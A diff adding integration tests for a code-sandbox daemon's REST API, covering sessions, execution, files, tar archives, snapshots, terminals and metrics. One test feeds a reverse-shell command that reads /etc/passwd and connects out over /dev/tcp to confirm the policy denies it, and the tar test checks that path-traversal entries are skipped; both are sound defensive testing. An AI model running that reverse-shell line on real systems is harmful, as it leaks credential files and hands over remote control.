@@ -1,0 +1,466 @@
+"""What the REST dialect promises, against a real daemon. Each case gets a client and the provider's name."""
+import base64
+import http.client
+import io
+import json
+import tarfile
+import threading
+import time
+import urllib.parse
+
+import harness
+from websocket import WebSocket
+
+CASES = []
+
+
+def case(*traits, provider=None):
+    """traits: what the provider must have, else the case is left out."""
+    def add(function):
+        CASES.append((function, traits, provider))
+        return function
+    return add
+
+
+class Sandbox:
+    """A session that ends with its case."""
+
+    def __init__(self, client, provider, **more):
+        self.client, self.provider = client, provider
+        self.facts = client.ok("POST", "/api/sessions", {"provider": provider, **more})
+        self.id = self.facts["session_id"]
+        self.base = f"/api/sessions/{self.id}"
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.client.ok("DELETE", self.base)
+
+    def run(self, code, **more):
+        return self.client.ok("POST", self.base + "/execute", {"code": code, **more})
+
+    def shell(self, command, **more):
+        return self.client.ok("POST", self.base + "/commands", {"command": command, **more})
+
+    def put(self, path, content):
+        return self.client.ok("PUT", f"{self.base}/files?path={urllib.parse.quote(path)}", raw=content)
+
+    def get(self, path, **more):
+        return self.client("GET", f"{self.base}/files?path={urllib.parse.quote(path)}", **more)
+
+
+def events(body):
+    found = []
+    for block in body.decode().split("\n\n"):
+        lines = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line)
+        if "event" in lines:
+            found.append((lines["event"], json.loads(lines["data"])))
+    return found
+
+
+@case()
+def without_a_key_only_health_and_version(client, provider):
+    assert client("GET", "/health", key=False).status == 200
+    assert client("GET", "/version", key=False).status == 200
+    for path in ("/api/sessions", "/metrics", "/openapi.json", "/api/capabilities"):
+        client.fails(401, "unauthenticated", "GET", path, key=False)
+    client.fails(401, "unauthenticated", "GET", "/api/sessions", key=False, headers={"X-API-Key": "e2b_" + "0" * 40})
+    bearer = {"Authorization": "Bearer " + harness.KEY}
+    assert client("GET", "/api/sessions", key=False, headers=bearer).status == 200
+
+
+@case()
+def bad_requests_are_400_and_say_where(client, provider):
+    for body, field in (({"provider": "mars"}, "provider"), ({"environment": "mars"}, "environment"),
+                        ({"agent": "mars"}, "agent"), ({"policy": "mars"}, "policy"), ({"colour": "red"}, "colour"),
+                        ({"limits": {"memory": 1}}, "limits.memory"), ({"limits": {"memory_mb": -1}}, "limits.memory_mb"),
+                        ({"ttl_seconds": "long"}, "ttl_seconds"), ({"metadata": {"a": 1}}, "metadata.a"),
+                        ({"skills": ["x"]}, "skills"), ({"network": "all"}, "network")):
+        error = client.fails(400, "invalid_argument", "POST", "/api/sessions", body)
+        assert error["details"]["field"] == field, error
+    for raw in (b"{", b"[1]", b"\xff\xfe", b'{"a":1,"a":2}', b'{"metadata":' * 200):
+        client.fails(400, "invalid_argument", "POST", "/api/sessions", raw=raw)
+    client.fails(404, "not_found", "GET", "/api/sessions/ses_none")
+    client.fails(404, "not_found", "POST", "/api/sessions/ses_none/execute", {"code": "1"})
+    assert client("POST", "/api/sessions", raw=b"x" * (2 << 20)).status == 413
+    assert client("GET", "/api/nothing").status == 404
+    assert client("PUT", "/api/sessions").status == 405
+
+
+@case()
+def a_session_from_start_to_end(client, provider):
+    made = client.ok("POST", "/api/sessions", {"provider": provider, "metadata": {"who": "ann"}, "ttl_seconds": 100})
+    path = "/api/sessions/" + made["session_id"]
+    assert made["state"] == "running" and made["provider"] == provider and made["environment"] == "host"
+    assert made["sandbox_id"][0] == "i" and len(made["sandbox_id"]) == 21
+    assert made["sandbox_id"] in made["url"] and made["limits"]["memory_mb"] == 512
+    assert client.ok("GET", "/api/sessions/" + made["sandbox_id"])["session_id"] == made["session_id"]
+    changed = client.ok("PATCH", path, {"metadata": {"who": "bob"}, "ttl_seconds": 500})
+    assert changed["metadata"] == {"who": "bob"} and changed["expires_at"] > made["expires_at"]
+    listed = client.ok("GET", "/api/sessions?state=running&metadata.who=bob")["sessions"]
+    assert [one["session_id"] for one in listed] == [made["session_id"]]
+    client.fails(409, "conflict", "DELETE", path + "?sandbox_id=ianother")
+    ended = client.ok("DELETE", path + "?sandbox_id=" + made["sandbox_id"])
+    assert ended["state"] == "stopped" and ended["ended_at"]
+    assert client.ok("DELETE", path)["state"] == "stopped"
+    assert client.ok("GET", path)["state"] == "stopped"
+    client.fails(409, "conflict", "POST", path + "/execute", {"code": "1"})
+
+
+@case()
+def pages_of_sessions_meet(client, provider):
+    made = [client.ok("POST", "/api/sessions", {"provider": provider, "metadata": {"page": "x"}})["session_id"]
+            for _ in range(5)]
+    seen, cursor = [], ""
+    while True:
+        page = client.ok("GET", f"/api/sessions?metadata.page=x&order=asc&limit=2{cursor}")
+        seen += [one["session_id"] for one in page["sessions"]]
+        if not page["next_cursor"]:
+            break
+        cursor = "&cursor=" + page["next_cursor"]
+    assert seen == made, (seen, made)
+    client.fails(400, "invalid_argument", "GET", "/api/sessions?cursor=x")
+    client.fails(400, "invalid_argument", "GET", "/api/sessions?colour=red")
+    for one in made:
+        client.ok("DELETE", "/api/sessions/" + one)
+
+
+@case("kernels", provider="native")
+def variables_survive_between_executions(client, provider):
+    with Sandbox(client, provider) as box:
+        box.run("x = 20")
+        done = box.run("print('out')\nx + 22")
+        assert done["status"] == "success" and done["stdout"] == "out\n", done
+        main = [one for one in done["results"] if one["is_main"]]
+        assert main and main[0]["data"]["text/plain"] == "42", done["results"]
+        raised = box.run("1/0")
+        assert raised["status"] == "error" and raised["error"]["name"] == "ZeroDivisionError", raised
+        assert "ZeroDivisionError" in raised["error"]["traceback"]
+        original = client.ok("POST", "/api/e2b/execute", {"session_id": box.id, "code": "print(x)"})
+        assert original["stdout"] == "20\n", original
+        contexts = client.ok("GET", box.base + "/contexts")["contexts"]
+        assert len(contexts) == 1 and contexts[0]["language"] == "python"
+        other = client.ok("POST", box.base + "/contexts", {"language": "python"})
+        assert box.run("x", context=other["id"])["error"]["name"] == "NameError"
+        client.ok("POST", f"{box.base}/contexts/{other['id']}/restart")
+        client.ok("DELETE", f"{box.base}/contexts/{other['id']}")
+        client.fails(404, "not_found", "POST", box.base + "/execute", {"code": "1", "context": other["id"]})
+
+
+@case("kernels", provider="native")
+def a_time_limit_ends_code_and_the_session_goes_on(client, provider):
+    with Sandbox(client, provider) as box:
+        late = box.run("while True: pass", timeout_seconds=1)
+        assert late["status"] == "timeout", late
+        assert box.run("print('alive')")["stdout"] == "alive\n"
+
+
+@case("real_processes")
+def stateless_code_in_three_languages(client, provider):
+    with Sandbox(client, provider) as box:
+        for language, code in (("python", "print(6*7)"), ("js", "console.log(6*7)"), ("bash", "echo $((6*7))")):
+            done = box.run(code, language=language, stateless=True)
+            assert done["stdout"] == "42\n", done
+        failed = box.run("import sys; sys.exit(3)", stateless=True)
+        assert failed["status"] == "error" and failed["exit_code"] == 3, failed
+        assert box.run("import os; print(os.environ['A'])", stateless=True, env={"A": "b"})["stdout"] == "b\n"
+        late = box.run("while True: pass", stateless=True, timeout_seconds=0.5)
+        assert late["status"] == "timeout", late
+        large = box.run("#" + "x" * 300000 + "\nprint('large')", stateless=True)
+        assert large["stdout"] == "large\n", large["status"]
+    client.fails(400, "invalid_argument", "POST", "/api/sessions/x/execute", {"code": "1", "language": "cobol"})
+
+
+@case("real_processes")
+def live_events_end_with_the_whole_answer(client, provider):
+    with Sandbox(client, provider) as box:
+        answer = client("POST", box.base + "/execute",
+                        {"code": "import sys\nprint('\\u00e4')\nprint('e', file=sys.stderr)", "stateless": True},
+                        headers={"Accept": "text/event-stream"})
+        assert answer.headers["content-type"] == "text/event-stream"
+        found = events(answer.body)
+        assert [name for name, _ in found][0] == "start" and found[-1][0] == "done", found
+        assert "".join(data["text"] for name, data in found if name == "stdout") == "\u00e4\n"
+        assert "".join(data["text"] for name, data in found if name == "stderr") == "e\n"
+        assert found[-1][1]["status"] == "success"
+
+
+@case()
+def the_policy_denies_with_a_verdict(client, provider):
+    code = "cat /etc/passwd | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+    verdict = client.ok("POST", "/api/validate", {"code": code, "language": "shell"})
+    assert verdict["allowed"] is False, verdict
+    with Sandbox(client, provider) as box:
+        denied = box.shell(code)
+        assert denied["status"] == "denied" and denied["verdict"]["findings"], denied
+        history = client.ok("GET", box.base + "/history?status=denied")["records"]
+        assert [one["record_id"] for one in history] == [denied["record_id"]]
+    client.fails(400, "invalid_argument", "POST", "/api/validate", {"code": "1", "language": "cobol"})
+    client.fails(400, "invalid_argument", "POST", "/api/validate", {"code": "1", "policy": "none-such"})
+
+
+@case()
+def commands_tell_the_truth(client, provider):
+    with Sandbox(client, provider) as box:
+        done = box.shell("echo out; echo err >&2; exit 7")
+        assert (done["stdout"], done["stderr"], done["exit_code"], done["status"]) == ("out\n", "err\n", 7, "error"), done
+        assert box.shell("cat", stdin="fed\n")["stdout"] == "fed\n"
+        assert box.shell("pwd", cwd="/tmp")["stdout"] == "/tmp\n"
+        assert box.shell("echo $A", env={"A": "b c"})["stdout"] == "b c\n"
+        client.fails(400, "invalid_argument", "POST", box.base + "/commands", {})
+        client.fails(400, "invalid_argument", "POST", box.base + "/commands", {"command": "x", "argv": ["y"]})
+
+
+@case("real_processes")
+def background_processes_are_listed_signaled_and_fed(client, provider):
+    with Sandbox(client, provider) as box:
+        started = client.ok("POST", box.base + "/commands", {"argv": ["cat"], "background": True, "stdin": True, "tag": "t"})
+        pid = started["pid"]
+        listed = client.ok("GET", box.base + "/processes")["processes"]
+        assert pid in [one["pid"] for one in listed], listed
+        client.ok("POST", f"{box.base}/processes/{pid}/stdin", {"text": "hello\n", "close": True})
+        answer = client("GET", f"{box.base}/processes/t/attach?replay=true")
+        if answer.status == 200:
+            assert events(answer.body)[-1][0] == "exit"
+        sleeper = client.ok("POST", box.base + "/commands", {"command": "sleep 100", "background": True})
+        client.ok("POST", f"{box.base}/processes/{sleeper['pid']}/signal", {"signal": "TERM"})
+        client.fails(400, "invalid_argument", "POST", f"{box.base}/processes/{pid}/signal", {"signal": "LOUD"})
+        client.fails(404, "not_found", "DELETE", f"{box.base}/processes/999999")
+        deadline = time.time() + 5
+        while time.time() < deadline:
+            records = client.ok("GET", box.base + "/history")["records"]
+            if all(one["status"] != "admitted" for one in records):
+                break
+            time.sleep(0.05)
+        assert {one["code"]: one["status"] for one in records}["sleep 100"] in ("error", "killed"), records
+
+
+@case()
+def files_of_every_size(client, provider):
+    with Sandbox(client, provider) as box:
+        content = bytes(range(256)) * 20000
+        info = box.put("/home/user/deep/er/data.bin", content)
+        assert info["size"] == len(content) and info["type"] == "file"
+        assert box.get("/home/user/deep/er/data.bin").body == content
+        part = box.get("/home/user/deep/er/data.bin", headers={"Range": "bytes=10-19"})
+        assert part.status == 206 and part.body == content[10:20], part.status
+        assert part.headers["content-range"] == f"bytes 10-19/{len(content)}"
+        tail = box.get("/home/user/deep/er/data.bin", headers={"Range": "bytes=-5"})
+        assert tail.body == content[-5:]
+        assert box.get("/home/user/deep/er/data.bin", headers={"Range": "bytes=99999999-"}).status == 416
+        box.put("/home/user/empty", b"")
+        assert box.get("/home/user/empty").body == b""
+        names = [one["name"] for one in box.get("/home/user/deep").json["entries"]]
+        assert names == ["er"], names
+        files = box.base + "/files"
+        client.ok("POST", files + "/mkdir", {"path": "/home/user/new/dir"})
+        client.fails(409, "already_exists", "POST", files + "/mkdir", {"path": "/home/user/new/dir"})
+        client.ok("POST", files + "/copy", {"from": "/home/user/empty", "to": "/home/user/new/copy"})
+        client.ok("POST", files + "/move", {"from": "/home/user/empty", "to": "/home/user/new/moved"})
+        client.fails(404, "not_found", "GET", files + "?path=/home/user/empty")
+        answer = client("DELETE", files + "?path=/home/user/new")
+        assert answer.status in (400, 409), answer.status
+        client.ok("DELETE", files + "?path=/home/user/new&recursive=true")
+        client.fails(404, "not_found", "DELETE", files + "?path=/home/user/new")
+        client.fails(400, "invalid_argument", "GET", files)
+        client.fails(400, "invalid_argument", "GET", files + "?path=relative")
+        original = {"session_id": box.id, "path": "/home/user/b64", "content": base64.b64encode(b"\0\1").decode(),
+                    "encoding": "base64"}
+        client.ok("POST", "/api/e2b/files", original)
+        assert client.ok("GET", f"/api/e2b/files/{box.id}?path=/home/user/b64") == b"\0\1"
+        assert "entries" in client.ok("GET", f"/api/e2b/files/{box.id}")
+
+
+@case()
+def trees_travel_as_tar(client, provider):
+    with Sandbox(client, provider) as box:
+        packed = io.BytesIO()
+        with tarfile.open(fileobj=packed, mode="w:gz") as tar:
+            for name, content in (("a/b.txt", b"bee"), ("c.txt", b"sea" * 100000), ("../escape", b"x"), ("/abs", b"x")):
+                info = tarfile.TarInfo(name)
+                info.size = len(content)
+                tar.addfile(info, io.BytesIO(content))
+        done = client.ok("POST", box.base + "/files/archive?path=/home/user/up", raw=packed.getvalue())
+        assert (done["files"], done["skipped"]) == (2, 2), done
+        assert box.get("/home/user/up/a/b.txt").body == b"bee"
+        back = client.ok("GET", box.base + "/files/archive?path=/home/user/up")
+        with tarfile.open(fileobj=io.BytesIO(back)) as tar:
+            names = sorted(tar.getnames())
+            assert names == ["a", "a/b.txt", "c.txt"], names
+            assert tar.extractfile("c.txt").read() == b"sea" * 100000
+        client.fails(400, "invalid_argument", "POST", box.base + "/files/archive?path=/home/user", raw=b"no tar" * 500)
+
+
+@case()
+def what_lands_in_the_output_directory_is_kept(client, provider):
+    with Sandbox(client, provider) as box:
+        done = box.shell("printf a,b > /home/user/output/t.csv")
+        assert [one["path"] for one in done["artifacts"]] == ["/home/user/output/t.csv"], done
+        again = box.shell("true")
+        assert again["artifacts"] == []
+        artifacts = client.ok("GET", box.base + "/artifacts")["artifacts"]
+        assert artifacts[0]["media_type"] == "text/csv"
+        url = artifacts[0]["url"]
+        assert client.ok("GET", url) == b"a,b"
+    assert client.ok("GET", url) == b"a,b"
+    client.fails(404, "not_found", "GET", "/api/artifacts/" + "0" * 64)
+
+
+@case("real_processes")
+def long_output_is_cut_and_kept_whole(client, provider):
+    with Sandbox(client, provider) as box:
+        done = box.shell("head -c 3000000 /dev/zero | tr '\\0' x")
+        assert done["stdout_truncated"] and len(done["stdout"]) == 1 << 20, len(done["stdout"])
+        whole = [one for one in done["artifacts"] if one["path"] == "stdout"]
+        assert whole[0]["size_bytes"] == 3000000
+        assert client.ok("GET", whole[0]["url"]) == b"x" * 3000000
+
+
+@case()
+def history_is_found_and_exported(client, provider):
+    with Sandbox(client, provider) as box:
+        box.shell("echo one")
+        box.shell("echo two; false")
+        records = client.ok("GET", box.base + "/history?order=asc")["records"]
+        assert [one["stdout"] for one in records] == ["one\n", "two\n"], records
+        assert records[0]["metadata"]["session_id"] == box.id and records[0]["type"] == "shell"
+        found = client.ok("GET", box.base + "/history?text=two&status=error")["records"]
+        assert len(found) == 1
+        lines = client.ok("GET", box.base + "/history?format=jsonl").decode().splitlines()
+        assert len(lines) == 2 and json.loads(lines[0])["record_id"]
+        assert client.ok("GET", f"/api/history?session_id={box.id}&limit=1")["next_cursor"]
+        client.fails(400, "invalid_argument", "GET", "/api/history?status=strange")
+
+
+@case("pause")
+def pause_and_resume(client, provider):
+    with Sandbox(client, provider) as box:
+        paused = client.ok("POST", box.base + "/pause")
+        assert paused["state"] == "paused" and paused["expires_at"] is None
+        client.fails(409, "conflict", "POST", box.base + "/pause")
+        client.fails(409, "conflict", "POST", box.base + "/commands", {"command": "true"})
+        assert client.ok("POST", box.base + "/resume", {"ttl_seconds": 60})["state"] == "running"
+        assert box.shell("echo back")["stdout"] == "back\n"
+
+
+@case("snapshot", "fork")
+def snapshots_restore_and_fork(client, provider):
+    with Sandbox(client, provider) as box:
+        box.put("/home/user/kept", b"1")
+        snapshot = client.ok("POST", box.base + "/snapshots", {"name": "first"})
+        box.put("/home/user/kept", b"2")
+        forked = client.ok("POST", box.base + "/fork")
+        files = f"/api/sessions/{forked['session_id']}/files?path=/home/user/kept"
+        assert client.ok("GET", files) == b"2"
+        client.ok("PUT", files, raw=b"3")
+        assert box.get("/home/user/kept").body == b"2"
+        restored = client.ok("POST", box.base + "/restore", {"snapshot_id": snapshot["snapshot_id"]})
+        assert restored["sandbox_id"] == box.facts["sandbox_id"] and restored["state"] == "running"
+        assert box.get("/home/user/kept").body == b"1"
+        client.ok("DELETE", "/api/sessions/" + forked["session_id"])
+        with Sandbox(client, provider, snapshot="first") as other:
+            assert other.get("/home/user/kept").body == b"1"
+        client.fails(404, "not_found", "POST", box.base + "/restore", {"snapshot_id": "none"})
+    client.ok("DELETE", "/api/snapshots/" + snapshot["snapshot_id"])
+
+
+@case()
+def time_to_live_ends_a_session(client, provider):
+    made = client.ok("POST", "/api/sessions", {"provider": provider, "ttl_seconds": 0.5})
+    deadline = time.time() + 10
+    while time.time() < deadline:
+        now = client.ok("GET", "/api/sessions/" + made["session_id"])
+        if now["state"] == "stopped":
+            break
+        time.sleep(0.1)
+    assert now["state"] == "stopped" and "time to live" in now["reason"], now
+
+
+@case("real_processes")
+def destroy_during_execute_is_told(client, provider):
+    box = Sandbox(client, provider)
+    found = {}
+
+    def run():
+        found["answer"] = harness.Client(client.port)("POST", box.base + "/commands", {"command": "sleep 20"})
+    thread = threading.Thread(target=run)
+    thread.start()
+    time.sleep(0.5)
+    started = time.time()
+    client.ok("DELETE", box.base)
+    thread.join(10)
+    assert time.time() - started < 5
+    assert found["answer"].status == 200 and found["answer"].json["status"] == "killed", found["answer"].body
+
+
+@case("watch")
+def changes_are_told_live(client, provider):
+    with Sandbox(client, provider) as box:
+        connection = http.client.HTTPConnection("127.0.0.1", client.port, timeout=10)
+        connection.request("GET", box.base + "/files/watch?path=/home/user&recursive=true",
+                           headers={"X-API-Key": client.key})
+        response = connection.getresponse()
+        assert response.status == 200, response.read()
+        assert b"start" in response.readline()
+        box.put("/home/user/seen.txt", b"x")
+        for _ in range(20):
+            if b"seen.txt" in response.readline():
+                break
+        else:
+            raise AssertionError("the change was not told")
+        connection.close()
+
+
+@case("pty")
+def a_terminal_over_websocket(client, provider):
+    with Sandbox(client, provider) as box:
+        terminal = WebSocket(client.port, box.base + "/terminal?columns=100&rows=30", ["X-API-Key: " + client.key])
+        assert terminal.status == 101, terminal.status
+        terminal.send(json.dumps({"type": "resize", "columns": 90, "rows": 20}).encode(), text=True)
+        terminal.send(b"stty size; echo do''ne; exit 5\n")
+        out, last = b"", None
+        while last is None:
+            opcode, payload = terminal.receive()
+            if opcode == 2:
+                out += payload
+            elif opcode == 1:
+                last = json.loads(payload)
+        assert b"20 90" in out and b"done" in out, out
+        assert last["type"] == "exit" and last["exit_code"] == 5, last
+        terminal.close()
+        assert client("GET", box.base + "/terminal").status == 400
+
+
+@case()
+def usage_and_numbers(client, provider):
+    with Sandbox(client, provider) as box:
+        box.shell("echo x")
+        client.ok("GET", box.base + "/usage")
+        deadline = time.time() + 8
+        while time.time() < deadline:
+            samples = client.ok("GET", box.base + "/metrics")["samples"]
+            if samples:
+                break
+            time.sleep(0.1)
+        assert samples
+        text = client.ok("GET", "/metrics").decode()
+        for name in ("atoll_sessions{", "atoll_create_seconds_bucket", "atoll_execute_seconds_count",
+                     "atoll_http_requests_total", "process_resident_memory_bytes"):
+            assert name in text, name
+
+
+@case()
+def the_catalog(client, provider):
+    names = [one["name"] for one in client.ok("GET", "/api/environments")["environments"]]
+    assert {"host", "Python3", "Node"} <= set(names), names
+    assert client.ok("GET", "/api/agents")["agents"]
+    for empty in ("tools", "prompts", "skills"):
+        assert client.ok("GET", "/api/" + empty)[empty] == []
+    providers = [one["name"] for one in client.ok("GET", "/api/capabilities")["providers"]]
+    assert provider in providers
+    for name in ("Python3", "Node"):
+        with Sandbox(client, provider, environment=name) as box:
+            assert box.facts["environment"] == name
+    with Sandbox(client, provider, agent="assistant") as box:
+        assert box.facts["agent"] == "assistant"
